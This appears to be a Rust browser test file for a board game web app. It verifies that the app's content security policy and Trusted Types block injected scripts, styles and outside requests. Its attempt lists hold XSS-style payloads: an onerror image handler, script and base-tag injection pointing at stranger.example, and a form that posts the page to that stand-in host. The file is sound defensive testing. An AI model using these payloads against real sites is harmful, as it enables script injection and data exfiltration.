//! What the page may do: nothing but what the app does, and nothing with anybody else.

use browser_tests::pages::{Game, Shelf, Start, seat};
use browser_tests::{Phone, Site, Stranger, button, choice, fold, link, tab, with_phone, with_phone_watched};
use serde_json::json;

use super::sparta;

/// Keeps what the policy has refused for as long as the tab lives, over all pages.
const WATCH: &str = "addEventListener('securitypolicyviolation', (event) => {
    const seen = JSON.parse(sessionStorage.getItem('refused') ?? '[]');
    const { effectiveDirective, blockedURI, sourceFile, lineNumber, sample } = event;
    seen.push(`${effectiveDirective} ${blockedURI} ${sourceFile}:${lineNumber} ${sample}`);
    sessionStorage.setItem('refused', JSON.stringify(seen));
}, { capture: true })";

/// What the policy has refused so far, each beginning with the directive that did.
async fn refused(phone: &Phone) -> Vec<String> {
    let seen = phone.value("JSON.parse(sessionStorage.getItem('refused') ?? '[]')").await;
    serde_json::from_value(seen).expect("a list of texts")
}

async fn until_there(phone: &Phone, selector: &str) {
    phone.until(&format!("document.querySelector('{selector}')?.checkVisibility() === true")).await;
}

/// Every screen that belongs to no game, and what is made of games beside playing them.
async fn look_around(phone: &Phone, site: &Site) {
    Start::open(phone, site).await.register("anna@example.org", "karten und figuren").await.confirm_shown().await;
    phone.until_offline_ready().await;
    phone.tap(link("Einstellungen")).await;
    phone.on_screen("Einstellungen").await;
    phone.tap(link("Mitwirkende und Quellen")).await;
    phone.on_screen("Mitwirkende und Quellen").await;
    for (address, there) in [
        ("editions/leaders", "details"),
        ("company-leader/boards", ".frame__main .field__input"),
        ("general/learn", ".coach__place"),
        ("new/learn?course=1", ".coach__place"),
        ("sparta/analysis", ".sparta-square"),
        ("nowhere", ".frame__main, main"),
    ] {
        phone.open(&format!("{}{address}", site.url())).await;
        until_there(phone, there).await;
    }
}

/// A few plies on the board, one of them by the computer, the rules, and the end as a picture.
async fn play_sparta(phone: &Phone, site: &Site) {
    Shelf::open(phone, site).await.begin_sparta("Spartaner").await;
    phone.tap(button("Regeln")).await;
    until_there(phone, "dialog[open] .rules__text").await;
    phone.tap(button("Regeln schließen")).await;
    for square in ["b2", "b3", "b3"] {
        sparta::touch(phone, square).await;
    }
    phone.on_screen("Achaier am Zug").await;
    phone.tap(fold("Computer")).await;
    phone.tap(choice("Achaier")).await;
    phone.on_screen("Spartaner am Zug").await;
    phone.tap(button("Aufgeben")).await;
    phone.tap(button("AUFGEBEN")).await;
    phone.on_screen("Spielende").await;
    let picture = phone.catch_file(button("Bild teilen")).await;
    assert!(picture.starts_with(b"\x89PNG"), "it is painted from a drawing");
}

async fn play_general(phone: &Phone, site: &Site) {
    Shelf::open(phone, site).await.set_up("GENERAL").await;
    phone.tap(button("STARTEN")).await;
    until_there(phone, ".gcard--button").await;
    phone.value("void document.querySelector('.gcard--button').click()").await;
    phone.until("document.querySelector('.gcard--button[aria-pressed=true]') !== null").await;
    phone.value("void document.querySelector('.bottom-bar__next:not([aria-disabled])').click()").await;
    phone.until("document.querySelector('.gcard--button[aria-pressed=true]') === null").await;
}

async fn play_company_leader(phone: &Phone, site: &Site) {
    Shelf::open(phone, site).await.set_up("Company Leader").await;
    seat(phone, &["Anna", "Ben"]).await;
    phone.tap(choice("Anna").of("Wer beginnt?")).await;
    phone.tap(button("STARTEN")).await;
    for _ in ["Anna", "Ben"] {
        phone.hold(button("Zum Aufdecken halten")).await;
        phone.on_screen("Dein Heer").await;
        phone.tap(button("Rest zufällig verteilen")).await;
        phone.tap(button("FERTIG")).await;
    }
    until_there(phone, ".curtain__hold").await;
    phone.hold(button("Zum Aufdecken halten")).await;
    phone.on_screen("Deine Aktionen").await;
    phone.tap(button("AKTIONEN BEENDEN")).await;
    phone.on_screen("Einkauf").await;
}

/// A turn beside a printed board, and the map of the world.
async fn play_leaders(phone: &Phone, site: &Site) {
    let table = Shelf::open(phone, site).await.new_game().await.set_up(Game::of(&["Anna", "Berta"])).await;
    table.prepare().await;
    let (.., headquarters) = table.play_to_headquarters(50).await;
    headquarters.recruit("Infanterie", 1).await;
    phone.tap(tab("Forschung")).await;
    table.end_turn().await;
    phone.open(&format!("{}new", site.url())).await;
    for label in ["ALLEIN GEGEN DEN COMPUTER", "STARTEN", "WEITER"] {
        phone.tap(button(label)).await;
    }
    until_there(phone, ".atlas__area--open, .atlas__seen--open").await;
}

#[tokio::test]
async fn nothing_the_app_does_is_against_the_policy_or_asks_a_stranger() {
    let (site, stranger) = (Site::at_root(), Stranger::new());
    with_phone_watched(&stranger, async |phone| {
        phone.prepare_pages(WATCH).await;
        look_around(phone, &site).await;
        play_sparta(phone, &site).await;
        play_general(phone, &site).await;
        play_company_leader(phone, &site).await;
        play_leaders(phone, &site).await;
        assert_eq!(refused(phone).await, Vec::<String>::new());
        let complaints: Vec<_> = phone.log().await.into_iter().filter(|line| line.contains("Polic")).collect();
        assert!(complaints.is_empty(), "the browser does not understand a policy: {complaints:?}");
        // An address that somebody types in is one that the net is asked for: it would be seen.
        assert_eq!(stranger.asked(), Vec::<String>::new());
        assert!(phone.client.goto("http://stranger.example/typed").await.is_ok() || !stranger.asked().is_empty());
        assert!(stranger.asked().iter().any(|line| line.contains("stranger.example/typed")), "{:?}", stranger.asked());
    })
    .await;
}

/// What somebody tries who has got something of his into the page: the directive that says it refuses it, where one does, what he does,
/// and when he has succeeded. `make` makes an element with properties.
type Attempt = (&'static str, &'static str, &'static str);

const ATTEMPTS: [Attempt; 16] = [
    ("style-src-attr", "document.body.setAttribute('style', '--taken: 1')", "styled()"),
    ("style-src-elem", "document.body.append(make('style', { textContent: 'body { --taken: 1 }' }))", "styled()"),
    (
        "style-src-elem",
        "document.head.append(make('link', { rel: 'stylesheet', href: 'http://stranger.example/a.css' }))",
        "styled()",
    ),
    ("require-trusted-types-for", "document.body.append(make('script', { text: 'taken = true' }))", "taken"),
    (
        // Told in the console only.
        "",
        "(() => { const script = make('script', {}); script.append('taken = true'); document.body.append(script); })()",
        "taken",
    ),
    (
        "require-trusted-types-for",
        "document.body.append(make('script', { src: 'http://stranger.example/a.js' }))",
        "document.querySelector('script[src*=stranger]') !== null",
    ),
    (
        "require-trusted-types-for",
        "document.body.setAttribute('onclick', 'taken = true'); document.body.click()",
        "taken",
    ),
    (
        "require-trusted-types-for",
        "document.body.append(make('p', { innerHTML: '<img src=x onerror=\"taken = true\">' }))",
        "taken || document.querySelector('img') !== null",
    ),
    ("require-trusted-types-for", "document.write('<p id=taken>')", "document.getElementById('taken') !== null"),
    ("require-trusted-types-for", "new Worker('manifest.json')", "false"),
    ("require-trusted-types-for", "new Worker(URL.createObjectURL(new Blob(['close()'])))", "false"),
    ("", "eval('taken = true')", "taken"),
    ("img-src", "document.body.append(make('img', { src: 'http://stranger.example/a.png' }))", "false"),
    ("connect-src", "fetch('http://stranger.example/a').catch(() => {})", "false"),
    ("frame-src", "document.body.append(make('iframe', { src: 'http://stranger.example/' }))", "false"),
    (
        "base-uri",
        "document.head.prepend(make('base', { href: 'http://stranger.example/' }))",
        "document.baseURI.includes('stranger')",
    ),
];

/// What else refuses, where a browser has no Trusted Types.
const ATTEMPTS_WITHOUT_TYPES: [Attempt; 6] = [
    ("script-src-elem", "document.body.append(make('script', { text: 'taken = true' }))", "taken"),
    ("script-src-elem", "document.body.append(make('script', { src: 'http://stranger.example/a.js' }))", "false"),
    ("script-src-attr", "document.body.setAttribute('onclick', 'taken = true'); document.body.click()", "taken"),
    (
        "script-src-attr",
        "document.body.append(make('p', { innerHTML: '<img src=x onerror=\"taken = true\">' }))",
        "taken",
    ),
    ("script-src", "eval('taken = true')", "taken"),
    ("worker-src", "new Worker(URL.createObjectURL(new Blob(['close()'])))", "false"),
];

/// One that takes the page along, where it succeeds.
const FORM: &str = "(() => {
    const form = make('form', { action: 'http://stranger.example/form', method: 'post' });
    document.body.append(form);
    form.submit();
})()";

/// Does what an attempt does, as an event does it: in what a driver runs itself, the browser allows `eval`.
async fn attempt(phone: &Phone, deed: &str) {
    let script = format!(
        "void await (async () => {{
            window.taken = false;
            window.make = (name, properties) => Object.assign(document.createElement(name), properties);
            window.styled = () => getComputedStyle(document.body).getPropertyValue('--taken') !== '';
            await new Promise((done) => setTimeout(() => {{
                try {{ {deed}; }} catch {{ /* That is one way to refuse. */ }}
                done();
            }}));
        }})()"
    );
    phone.value(&script).await;
}

/// Tries everything, each on a page of its own.
async fn assert_vain(phone: &Phone, site: &Site, attempts: &[Attempt]) {
    for (directive, deed, success) in attempts {
        phone.open(&site.url()).await;
        phone.value("sessionStorage.clear()").await;
        attempt(phone, deed).await;
        let has_refused = format!("(sessionStorage.getItem('refused') ?? '').includes('{directive}')");
        phone.until(&has_refused).await;
        assert_eq!(phone.value(success).await, json!(false), "{deed}");
    }
}

#[tokio::test]
async fn what_is_put_into_the_page_does_nothing() {
    let (site, stranger) = (Site::at_root(), Stranger::new());
    with_phone_watched(&stranger, async |phone| {
        phone.prepare_pages(WATCH).await;
        assert_vain(phone, &site, &ATTEMPTS).await;
        phone.open(&site.url()).await;
        attempt(phone, FORM).await;
        phone.until("sessionStorage.getItem('refused')?.includes('form-action ') === true").await;
        // What has a policy of its own is refused even what looks like the page's.
        attempt(phone, "taken = !!trustedTypes.createPolicy('mine', {})").await;
        assert_eq!(phone.value("taken").await, json!(false));
        assert_eq!(stranger.asked(), Vec::<String>::new());
    })
    .await;
}

#[tokio::test]
async fn nor_does_it_where_there_are_no_trusted_types() {
    let (site, stranger) = (Site::at_root(), Stranger::new());
    site.without_trusted_types();
    with_phone_watched(&stranger, async |phone| {
        phone.prepare_pages(WATCH).await;
        assert_vain(phone, &site, &ATTEMPTS_WITHOUT_TYPES).await;
        assert_eq!(stranger.asked(), Vec::<String>::new());
    })
    .await;
}

/// The program makes HTML of its own constants alone: where none of its texts counts as one, it makes nothing.
#[tokio::test]
async fn html_is_made_of_constants_of_the_program_alone() {
    let site = Site::at_root();
    site.without_constants();
    with_phone(async |phone| {
        phone.prepare_pages("addEventListener('error', ({ message }) => { window.failed ??= message; })").await;
        phone.open(&format!("{}sparta", site.url())).await;
        phone.until("window.failed?.includes('a text made at run time is no HTML') === true").await;
    })
    .await;
}

/// With `nosniff`, a file is what its type says.
#[tokio::test]
async fn every_file_of_a_build_is_sent_as_what_it_is() {
    let site = Site::at_root();
    with_phone(async |phone| {
        phone.open(&site.url()).await;
        let files = site.files();
        for ending in ["html", "js", "json", "png", "svg", "txt", "wasm", "woff2"] {
            assert!(files.iter().any(|file| file.ends_with(&format!(".{ending}"))), "no {ending} in {files:?}");
        }
        for file in files {
            let asked = format!("(await fetch('{file}', {{ method: 'HEAD' }})).headers.get('content-type')");
            let right = match file.rsplit('.').next() {
                Some("html") => "text/html; charset=utf-8",
                Some("js") => "text/javascript; charset=utf-8",
                Some("json") => "application/manifest+json",
                Some("png") => "image/png",
                Some("svg") => "image/svg+xml",
                Some("txt") => "text/plain; charset=utf-8",
                Some("wasm") => "application/wasm",
                Some("woff2") => "font/woff2",
                _ => "",
            };
            assert_eq!(phone.value(&asked).await, json!(right), "{file}");
        }
    })
    .await;
}
